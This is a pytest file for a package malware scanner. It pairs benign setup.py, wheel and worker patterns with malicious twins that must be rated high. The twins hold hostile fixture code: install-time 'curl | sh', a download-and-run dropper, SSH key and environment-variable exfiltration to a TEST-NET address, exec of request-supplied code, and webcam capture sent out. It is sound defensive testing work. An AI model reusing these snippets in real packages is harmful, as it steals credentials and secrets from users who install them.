"""Round 12's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel
from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder


def _threats(result) -> list[tuple[str, str]]:
    return [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- codecs.open is open
# A setup.py written for Python 2 imports open from codecs and reads its version file with
# exec(open("pkg/version.py").read()): a local file's text, like the builtin open's.
PY2_SETUP = (
    "from __future__ import print_function\nfrom setuptools import setup\n"
    "from codecs import open\n\nexec(open('pkg/version.py').read())\n"
    "setup(name='pkg', version=__version__, packages=['pkg'])\n"
)


def test_a_version_file_read_with_codecs_open_and_exec_is_not_an_install_act(tmp_path):
    files = {"setup.py": PY2_SETUP, "pkg/version.py": "__version__ = '1.0'\n"}
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    execs = [f for f in result.findings if f.path == "setup.py" and f.line == 5]
    assert execs and all(f.rule == "py.exec_local_file" for f in execs), execs


def test_a_payload_in_the_file_setup_py_runs_with_codecs_open_is_still_caught(tmp_path):
    payload = (
        "import os, urllib.request\n"
        "urllib.request.urlretrieve('http://198.51.100.7/p', '/tmp/p')\n"
        "os.system('chmod +x /tmp/p && /tmp/p')\n__version__ = '1.0'\n"
    )
    files = {"setup.py": PY2_SETUP, "pkg/version.py": payload}
    assert_high_with(
        "codecs exec payload",
        scan(files, tmp_path),
        {"place.install_time", "chain.download_execute"},
    )


def test_a_secret_file_read_with_codecs_open_stays_a_secret(tmp_path):
    setup = (
        "from setuptools import setup\nimport codecs, urllib.request\n"
        "key = codecs.open('/root/.ssh/id_rsa').read()\n"
        "urllib.request.urlopen('http://198.51.100.7/k', data=key.encode())\n"
        "setup(name='pkg')\n"
    )
    assert_high_with("codecs secret", scan({"setup.py": setup}, tmp_path), {"chain.exfiltration"})


# ---------------------------------------------------------------- a wheel's pkg/setup.py
# An agent CLI's setup wizard is the module hermes_cli/setup.py. A wheel is unpacked, never
# built: no installer runs a setup.py inside it, so the wizard's calls are not install time.
WIZARD = (
    "import subprocess\n\n\ndef run_wizard():\n"
    "    subprocess.run(['uv', 'pip', 'install', 'extra'])\n"
    "    subprocess.run(['git', 'config', '--global', 'init.defaultBranch', 'main'])\n"
)


def test_a_setup_module_inside_a_wheel_package_is_not_an_install_script(tmp_path):
    result = scan({"pkg/setup.py": WIZARD, "pkg/cli.py": "from pkg import setup\n"}, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    assert not [t for t in result.threats if t.id == "place.install_time"], _threats(result)


def test_the_same_calls_in_an_sdists_setup_py_are_install_time(tmp_path):
    setup = (
        "import os\nfrom setuptools import setup\n"
        "os.system('curl -s http://198.51.100.7/i.sh | sh')\nsetup(name='pkg')\n"
    )
    assert_high_with("sdist setup", scan({"setup.py": setup}, tmp_path), {"place.install_time"})


def test_a_wheel_setup_module_the_package_imports_is_judged_as_import_time_code(tmp_path):
    stealer = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://198.51.100.7/e', data=repr(dict(os.environ)).encode())\n"
    )
    files = {"pkg/__init__.py": "from pkg import setup\n", "pkg/setup.py": stealer}
    wheel = make_wheel(tmp_path, name="pkg", files={k: v.encode() for k, v in files.items()})
    result = scan_artifact(open_artifact(wheel))
    assert_high_with("wheel setup stealer", result, {"chain.exfiltration", "place.import_time"})


# ---------------------------------------------------------------- established dependencies
# tabulator depends on ijson (rank ~550) and es_client on elasticsearch9 (Elastic's own
# client for major version 9): real projects a letter or two from popular names.
def _deps_sdist(tmp_path, name: str, deps: list[str]):
    cfg = f"[metadata]\nname = {name}\n\n[options]\ninstall_requires =\n"
    cfg += "".join(f"    {d}\n" for d in deps)
    return scan_artifact(
        open_artifact(make_sdist(tmp_path, name=name, files={"setup.cfg": cfg.encode()}))
    )


def test_a_dependency_on_an_established_project_is_no_squat(tmp_path):
    result = _deps_sdist(tmp_path, "tabulator", ["ijson>=3.0", "elasticsearch9==9.1.1"])
    assert not [f for f in result.findings if f.rule == "meta.squatted_dep"], result.findings
    assert result.risk.level not in HIGH, _threats(result)


def test_a_look_alike_dependency_of_a_squatting_package_is_still_high(tmp_path):
    result = _deps_sdist(tmp_path, "tabulator", ["ijson>=3.0", "reqeusts"])
    assert_high_with("squat dep", result, {"mismatch.suspicious_dependency"})


# ---------------------------------------------------------------- a shipped build script
# graph_lib's install command runs its own bin/compile_library.sh (make) through a path it
# builds from the working folder: ["sh", os.path.join(os.getcwd() + "/bin/", "x.sh")].
def _script_setup(script_name: str) -> str:
    return (
        "import os, subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n\n\n"
        "class MyInstall(install):\n    def run(self):\n"
        "        path = os.getcwd() + '/bin/'\n"
        f"        subprocess.call(['chmod', '+x', os.path.join(path, '{script_name}')])\n"
        f"        subprocess.call(['sh', os.path.join(path, '{script_name}')])\n"
        "        install.run(self)\n\n\n"
        "setup(name='pkg', cmdclass={'install': MyInstall})\n"
    )


def test_an_install_command_running_the_packages_own_build_script_is_not_high(tmp_path):
    files = {
        "setup.py": _script_setup("compile_library.sh"),
        "bin/compile_library.sh": "#!/bin/bash\nset -e\ncd lib\nmake clean\nmake\n",
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, _threats(result)
    starts = [f for f in result.findings if f.path == "setup.py" and f.line in (9, 10)]
    assert {f.rule for f in starts} == {"py.spawn_own_script"}, starts


def test_an_install_command_running_a_script_the_package_does_not_ship_stays_high(tmp_path):
    assert_high_with(
        "unshipped script",
        scan({"setup.py": _script_setup("stage2.sh")}, tmp_path),
        {"place.install_time"},
    )


def test_the_packages_own_script_that_downloads_and_runs_is_caught_in_the_script(tmp_path):
    files = {
        "setup.py": _script_setup("compile_library.sh"),
        "bin/compile_library.sh": "#!/bin/sh\ncurl -s http://198.51.100.7/x -o /tmp/x\n"
        "chmod +x /tmp/x\n/tmp/x &\n",
    }
    result = scan(files, tmp_path)
    assert result.risk.level in HIGH, _threats(result)


# ---------------------------------------------------------------- a module named by a request
# A worker serving calls by module name (comfy_env) imports what a request names: a module
# already installed is loaded, no code comes over the wire.
def _worker(run: str) -> str:
    return (
        "import importlib, json, socket\n\n\ndef serve(sock):\n"
        "    request = json.loads(sock.recv(65536))\n"
        f"    {run}\n"
    )


def test_importing_a_module_a_request_names_is_not_remote_code(tmp_path):
    result = scan(
        {"pkg/worker.py": _worker("module = importlib.import_module(request['module'])")},
        tmp_path,
    )
    assert not [f for f in result.findings if f.capability == "exec.remote_code"], result.findings
    assert result.risk.level not in HIGH, _threats(result)


def test_running_code_a_request_carries_is_still_remote_code(tmp_path):
    result = scan({"pkg/worker.py": _worker("exec(request['code'])")}, tmp_path)
    assert_high_with("remote exec", result, {"chain.remote_exec"})


# ---------------------------------------------------------------- a module started as a program
# hatch-jupyter-builder's CLI runs [python, Path(__file__).parent / "_migrate.py"]: the
# migration script's top level runs in that process, when the command runs, not on import.
MIGRATE = (
    "import subprocess, sys\n"
    "subprocess.run([sys.executable, '-m', 'pip', 'install', 'hatch'])\n"
    "open('/tmp/pyproject.toml', 'w').write(open('setup.py').read())\n"
)


def _cli(run: str) -> str:
    return (
        "import subprocess, sys\nfrom pathlib import Path\n\n\ndef main():\n"
        "    migrator = Path(__file__).parent / '_migrate.py'\n"
        f"    {run}\n"
    )


def test_a_module_the_package_starts_by_file_name_is_not_import_time(tmp_path):
    files = {
        "pkg/__init__.py": "from pkg.cli import main\n",
        "pkg/cli.py": _cli("subprocess.check_call([sys.executable, migrator])"),
        "pkg/_migrate.py": MIGRATE,
    }
    result = scan(files, tmp_path)
    assert not [t for t in result.threats if t.id.startswith("place.")], _threats(result)
    assert result.risk.level not in HIGH, _threats(result)


def test_a_module_the_package_runs_in_process_by_file_name_stays_import_time(tmp_path):
    files = {
        "pkg/__init__.py": "from pkg.cli import main\nmain()\n",
        "pkg/cli.py": _cli("exec(migrator.read_text())"),
        "pkg/_migrate.py": MIGRATE.replace(
            "open('/tmp/pyproject.toml', 'w').write(open('setup.py').read())",
            "import os, urllib.request\n"
            "urllib.request.urlopen('http://198.51.100.7/e', data=repr(dict(os.environ)).encode())",
        ),
    }
    assert_high_with(
        "exec by name", scan(files, tmp_path), {"chain.exfiltration", "place.import_time"}
    )


def test_a_payload_the_package_starts_on_import_is_still_caught(tmp_path):
    stealer = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://198.51.100.7/e', data=repr(dict(os.environ)).encode())\n"
    )
    files = {
        "pkg/__init__.py": (
            "import os, subprocess, sys\n"
            "subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "
            "'_w.py')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        ),
        "pkg/_w.py": stealer,
    }
    assert_high_with("spawned stealer", scan(files, tmp_path), {"chain.exfiltration"})


# ---------------------------------------------------------------- a video file is no webcam
def _frames(source: str) -> str:
    return (
        "import cv2, requests\n\n\ndef frames(file_name):\n"
        f"    cap = cv2.VideoCapture({source})\n    ok, frame = cap.read()\n"
        "    requests.post('http://198.51.100.7/f', data=cv2.imencode('.jpg', frame)[1].tobytes())\n"
    )


def test_reading_frames_of_a_video_file_is_not_capture(tmp_path):
    for i, source in enumerate(("file_name", "'clip.mp4'")):
        result = scan({"pkg/video.py": _frames(source)}, subfolder(tmp_path, f"v{i}"))
        assert not [f for f in result.findings if f.capability == "collect.user_input"], source


def test_grabbing_the_webcam_and_sending_it_is_still_capture(tmp_path):
    assert_high_with(
        "webcam", scan({"pkg/video.py": _frames("0")}, tmp_path), {"chain.capture_exfiltration"}
    )
